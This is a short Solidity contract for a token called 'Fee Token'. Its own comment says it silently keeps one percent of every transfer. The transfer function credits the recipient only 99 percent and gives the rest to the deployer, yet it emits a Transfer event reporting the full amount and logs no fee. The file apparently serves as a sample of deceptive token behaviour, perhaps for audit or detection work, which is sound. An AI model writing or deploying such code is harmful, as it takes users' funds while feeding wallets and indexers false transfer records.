// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

/// Keeps one percent of every transfer, while its log says that all of it arrived.
contract FeeToken {
    event Transfer(address indexed from, address indexed to, uint256 value);

    string public constant name = "Fee Token";
    string public constant symbol = "FEE";
    uint8 public constant decimals = 6;
    mapping(address account => uint256) public balanceOf;
    address private immutable _collector = msg.sender;

    constructor() {
        balanceOf[msg.sender] = 1e12;
        emit Transfer(address(0), msg.sender, 1e12);
    }

    function transfer(address to, uint256 value) external returns (bool) {
        uint256 fee = value / 100;
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value - fee;
        balanceOf[_collector] += fee;
        emit Transfer(msg.sender, to, value);
        return true;
    }
}
